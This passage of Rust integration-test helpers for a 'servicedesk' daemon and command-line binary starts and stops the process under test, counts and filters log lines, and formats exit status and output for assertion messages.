    /// Log lines containing `text`.
    pub fn lines(&self, text: &str) -> usize {
        self.log().lines().filter(|l| l.contains(text)).count()
    }

    /// SIGTERM, then the exit must come within 20 s and be clean. Prints
    /// the log's warnings, errors and recoveries.
    pub fn stop(mut self) -> String {
        let pid = self.child.id().to_string();
        let status = Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .expect("kill -TERM");
        assert!(status.success(), "kill -TERM {pid}");
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        loop {
            if let Some(status) = self.child.try_wait().expect("wait") {
                let log = self.log();
                for line in log.lines().filter(|l| {
                    l.contains(" WARN ")
                        || l.contains(" ERROR ")
                        || l.contains("restored")
                        || l.contains("again")
                }) {
                    println!("{line}");
                }
                assert!(status.success(), "daemon exited with {status}\n{log}");
                return log;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "no exit within 20 s of SIGTERM\n{}",
                self.log()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Runs `servicedesk --config CONFIG ARGS...` in `dir` as an operator or an
/// MTA would (no inherited config or log settings), with `stdin` piped in.
pub fn run_servicedesk(
    config: &Path,
    dir: &Path,
    args: &[&str],
    stdin: Option<&[u8]>,
) -> std::process::Output {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_servicedesk"))
        .arg("--config")
        .arg(config)
        .args(args)
        .current_dir(dir)
        .env_remove("SERVICEDESK_CONFIG")
        .env_remove("SERVICEDESK_LOG")
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("cannot start the servicedesk binary");
    if let Some(bytes) = stdin {
        let mut pipe = child.stdin.take().expect("stdin");
        pipe.write_all(bytes).expect("write stdin");
    }
    child.wait_with_output().expect("wait for servicedesk")
}

/// Exit code, stdout and stderr of a run, for assertion messages.
pub fn describe(out: &std::process::Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}
